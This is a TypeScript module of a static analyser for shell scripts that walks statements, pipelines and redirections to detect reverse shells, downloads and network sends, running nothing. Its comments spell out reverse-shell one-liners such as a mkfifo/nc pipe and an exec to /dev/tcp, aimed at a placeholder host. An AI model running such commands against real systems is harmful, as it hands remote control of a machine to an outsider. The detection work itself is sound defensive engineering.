// Shell scripts read as a shell would: statements in order, variables,
// command substitutions, pipelines carrying each command's output into the
// next one's input, redirections to and from files, heredocs. Each command
// is judged by what it is (a download, a decoder, a shell, a network tool),
// after unwrapping sudo, env, exec and the like. Nothing is ever run.
// This file walks the statements; the values of words live in
// shell-words.ts, what each command does in shell-commands.ts (with
// shell-network.ts for downloads and network tools, shell-interpreters.ts for
// `bash -c` and the like), and the shapes they share in shell-reader.ts.
import type { Node } from 'web-tree-sitter';
import { isLoopback, literal, NOTHING, union, type Value } from './facts.js';
import { field, fields, Flow, isInterpreter, languageOfRunner, named, place, programName } from './flow.js';
import { runProgram } from './shell-commands.js';
import { NO_IO, recordExec, stepped, type Io, type PipeParts, type Place, type ShellReader, type Word } from './shell-reader.js';
import { fileValue, readWord } from './shell-words.js';

const WRAPPERS = new Set(['sudo', 'doas', 'exec', 'command', 'builtin', 'nohup', 'time', 'nice', 'ionice', 'stdbuf', 'setsid', 'unbuffer', 'chronic', 'caffeinate', 'timeout', 'env', 'su', 'runuser', 'watch', 'strace', 'ltrace', 'script']);
const WRAPPER_VALUE_FLAGS = /^-(?:u|g|C|D|h|p|U|r|t|n|s|k|l|c)$|^--(?:user|group|chdir|signal|kill-after)$/;

/** Reads a script (or its pieces, in order: analyze.ts parses a long file in pieces). */
export function analyzeShell(roots: readonly Node[], flow: Flow): void {
  const walker = new ShellWalker(flow);
  for (const root of roots) walker.block(root, NOTHING);
  walker.finish();
}

class ShellWalker implements ShellReader {
  private readonly tcpFds = new Map<string, { offset: number; length: number; host: string; port: string }>();
  private openPipe: PipeParts | undefined;

  constructor(readonly f: Flow) {}

  get pipe(): PipeParts | undefined {
    return this.openPipe;
  }

  finish(): void {
    // Nothing to settle: reverse shells through file descriptors are judged as they are used.
  }

  /** Statements one after the other; the output is the last one's. */
  block(node: Node, stdin: Value): Value {
    let out: Value = NOTHING;
    for (const child of named(node)) out = this.stmt(child, stdin);
    return out;
  }

  stmt(node: Node, stdin: Value, io: Io = NO_IO): Value {
    return this.f.deeper(() => {
      switch (node.type) {
        case 'comment':
          return NOTHING;
        case 'command':
          return this.command(node, stdin, io);
        case 'pipeline':
          return this.pipeline(named(node), stdin);
        case 'redirected_statement':
          return this.redirected(node, stdin);
        case 'variable_assignment':
          this.assign(node);
          return NOTHING;
        case 'variable_assignments':
          for (const a of named(node)) this.assign(a);
          return NOTHING;
        case 'declaration_command':
          for (const c of named(node)) {
            if (c.type === 'variable_assignment') this.assign(c);
          }
          return NOTHING;
        case 'for_statement': {
          const name = field(node, 'variable')?.text;
          const values = fields(node, 'value').map((v) => this.word(v));
          if (name) this.f.vars.set(name, union(...values));
          const body = field(node, 'body');
          return body ? this.block(body, stdin) : NOTHING;
        }
        case 'function_definition': {
          const body = field(node, 'body');
          return body ? this.stmt(body, NOTHING) : NOTHING;
        }
        case 'while_statement':
        case 'until_statement': {
          // `while read line; do … done < file`: the loop's input feeds `read`.
          for (const c of fields(node, 'condition')) this.stmt(c, stdin);
          const body = field(node, 'body');
          return body ? this.block(body, stdin) : NOTHING;
        }
        case 'command_substitution':
        case 'process_substitution':
          return this.substitution(node);
        default:
          return this.block(node, stdin);
      }
    });
  }

  private assign(node: Node): void {
    const name = field(node, 'name')?.text;
    const value = field(node, 'value');
    if (name) this.f.vars.set(name, value ? this.word(value) : literal(''));
  }

  private pipeline(parts: Node[], stdin: Value): Value {
    const saved = this.openPipe;
    this.openPipe = {};
    let value = stdin;
    for (const part of parts) value = this.stmt(part, value);
    const { shell, net } = this.openPipe;
    // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell whose input and output travel over a connection.
    if (shell && net && !isLoopback(net.host)) {
      this.f.facts.shells.push({ offset: shell.offset, length: net.offset + net.length - shell.offset, what: `pipes a shell through ${net.tool} to ${net.host}: whoever is there can type commands on this computer` });
    } else if (saved) {
      // `(cat f | sh -i 2>&1) | nc host port`: the parts may sit in nested pipelines.
      saved.shell ??= shell;
      saved.net ??= net;
    }
    this.openPipe = saved;
    return value;
  }

  private redirected(node: Node, stdin: Value): Value {
    const body = field(node, 'body');
    let input = stdin;
    const outs: Array<{ path: string; append: boolean }> = [];
    const io: { tcp: Io['tcp']; fds: string[]; heredoc?: Value } = { tcp: [], fds: [] };
    let after: Node[] = [];
    for (const r of fields(node, 'redirect')) {
      if (r.type === 'heredoc_redirect') {
        const bodyNode = named(r).find((c) => c.type === 'heredoc_body');
        const start = named(r).find((c) => c.type === 'heredoc_start')?.text ?? '';
        if (bodyNode) {
          io.heredoc = this.heredoc(bodyNode, /['"\\]/.test(start));
          input = io.heredoc;
        }
        after = named(r).filter((c) => c.type === 'pipeline' || c.type === 'command' || c.type === 'list');
      } else if (r.type === 'herestring_redirect') {
        const v = named(r).find((c) => c.type !== 'file_descriptor');
        if (v) input = this.word(v);
      } else if (r.type === 'file_redirect') {
        const op = r.child(r.childCount > 0 && r.child(0)?.type === 'file_descriptor' ? 1 : 0)?.type ?? '';
        const fd = named(r).find((c) => c.type === 'file_descriptor')?.text;
        for (const dest of fields(r, 'destination')) {
          const text = this.word(dest).text;
          const tcp = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\/(\S+)$/.exec(text);
          if (tcp) io.tcp.push({ fd: fd ?? (op.startsWith('<') ? '0' : '1'), host: tcp[1]!, port: tcp[2]! });
          if (dest.type === 'number' && (op === '<&' || op === '>&' || op === '&>')) io.fds.push(dest.text);
          else if (op === '<') input = fileValue(this.f, this.word(dest), dest.startIndex);
          // `2>/dev/null` sends the errors away; the output still flows down the pipe.
          else if (/^(?:>|>>|&>|&>>|>\||>&)$/.test(op) && dest.type !== 'number' && (fd === undefined || fd === '1' || op.startsWith('&'))) outs.push({ path: text, append: op.endsWith('>>') });
        }
      }
    }
    const output = body ? this.stmt(body, input, io) : NOTHING;
    for (const { path, append } of outs) {
      const tcp = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\//.exec(path);
      if (!tcp) this.f.wrote({ ...place(node), path, how: append ? 'appends to' : 'writes', content: output });
      if (tcp) {
        if (output.steps.length && !isLoopback(tcp[1])) this.f.facts.sends.push({ ...place(node), verb: 'writes it to a network connection', host: tcp[1]!, payload: output });
      } else if (output.steps.length || io.heredoc) {
        this.f.write({ ...place(node), path, value: output });
        // `cat > x.py <<'PY'`: the file written is code; read it as code too.
        const lang = languageOfPath(path);
        if (io.heredoc && lang && this.isCopy(body)) this.f.nest(lang, io.heredoc, `the heredoc written to ${path}`);
      }
    }
    if (after.length) return this.pipeline(after, output);
    return outs.length ? NOTHING : output;
  }

  private isCopy(body: Node | undefined): boolean {
    const name = body?.type === 'command' ? field(body, 'name')?.text : undefined;
    return name === 'cat' || name === 'tee';
  }

  private heredoc(node: Node, quoted: boolean): Value {
    const text = node.text;
    const span = node.startIndex;
    if (quoted) return { ...literal(text), span };
    const parts = named(node).filter((c) => c.type !== 'heredoc_content').map((c) => this.word(c));
    return { ...union(...parts), text, exact: parts.length === 0, span };
  }

  substitution(node: Node): Value {
    // Only a substitution that runs a program counts as code run while computing a value (`\s*` in backticks is a regex).
    // A lone word in backticks is how prose marks code (`any`), not a command run.
    const text = node.text;
    if (/^(?:\$\(|`|<\(|>\()\s*(?:sudo\s+)?[A-Za-z_./~][\w./~-]*/.test(text) && (!text.startsWith('`') || /\s|[/|;]/.test(text.slice(1, -1).trim()))) this.f.facts.expansions.push(place(node));
    const saved = this.openPipe;
    this.openPipe = undefined;
    const out = this.block(node, NOTHING);
    this.openPipe = saved;
    return { ...union(out), ...(out.shell ? { shell: true } : {}) };
  }

  /** The value of a word: its text where it is written down, and the origins of what is substituted in. */
  word(node: Node): Value {
    return readWord(this, node);
  }

  private command(node: Node, stdin: Value, io: Io): Value {
    for (const c of named(node)) {
      if (c.type === 'variable_assignment') this.assign(c);
    }
    const nameNode = field(node, 'name');
    if (!nameNode) return NOTHING;
    const words: Word[] = [nameNode, ...fields(node, 'argument')].map((n) => ({ node: n, v: this.word(n) }));
    // Unwrap sudo, env, exec …: what runs is the program after them.
    let i = 0;
    let envOnly = false;
    while (i < words.length && WRAPPERS.has(programName(words[i]!.v.text))) {
      const wrapper = programName(words[i]!.v.text);
      i++;
      if (wrapper === 'timeout' && i < words.length && /^\d/.test(words[i]!.v.text)) i++;
      while (i < words.length) {
        const t = words[i]!.v.text;
        if (t.startsWith('-') && t !== '-') {
          i += WRAPPER_VALUE_FLAGS.test(t) && wrapper !== 'env' ? 2 : 1;
        } else if (wrapper === 'env' && /^[A-Za-z_]\w*=/.test(t)) {
          i++;
        } else break;
      }
      if (i >= words.length) envOnly = wrapper === 'env';
      if (wrapper === 'exec' && i >= words.length) {
        // `exec 5<>/dev/tcp/host/port`: a connection kept open on a file descriptor.
        for (const t of io.tcp) if (!isLoopback(t.host)) this.tcpFds.set(t.fd, { ...place(node), host: t.host, port: t.port });
      }
    }
    if (envOnly) return stepped('environment', node.startIndex, 'reads the whole environment (env)');
    if (i >= words.length) return NOTHING;
    return this.run(node, words[i]!, words.slice(i + 1), stdin, io);
  }

  private run(node: Node, program: Word, args: Word[], stdin: Value, io: Io): Value {
    const name = programName(program.v.text);
    const at = place(node);

    // Reverse shells through /dev/tcp: a shell whose input or output is a connection.
    const remote = io.tcp.find((t) => !isLoopback(t.host));
    const viaFd = io.fds.map((fd) => this.tcpFds.get(fd)).find((t) => t !== undefined);
    const runsCommands = isInterpreter(name) || (!program.v.exact && program.node.type !== 'word');
    if (runsCommands && (remote || viaFd)) {
      const t = remote ?? viaFd!;
      // Through a kept descriptor, the place is where the connection opens (`exec 5<>/dev/tcp/…`).
      this.f.facts.shells.push({ ...(remote ? at : { offset: viaFd!.offset, length: viaFd!.length }), what: `connects ${program.v.exact ? name : 'a command read from the connection'} to ${t.host} port ${t.port} through /dev/tcp: whoever is there can type commands on this computer` });
    }

    // A command whose name is computed from a download or a decoder: what it says is what runs.
    if (!program.v.exact && program.v.steps.some((s) => s.kind === 'download' || s.kind === 'decoded' || s.kind === 'socket')) {
      recordExec(this.f, node, 'the shell', program.v);
    }

    return runProgram(this, node, program, args, stdin, io);
  }

  markShell(at: Place): void {
    if (this.openPipe && !this.openPipe.shell) this.openPipe.shell = at;
  }
}

function languageOfPath(path: string): ReturnType<typeof languageOfRunner> {
  const ext = /\.([a-z0-9]+)$/i.exec(path)?.[1]?.toLowerCase();
  if (ext === 'sh' || ext === 'bash') return 'bash';
  if (ext === 'py') return 'python';
  if (ext === 'js' || ext === 'mjs' || ext === 'cjs') return 'javascript';
  if (ext === 'ps1') return 'powershell';
  return undefined;
}
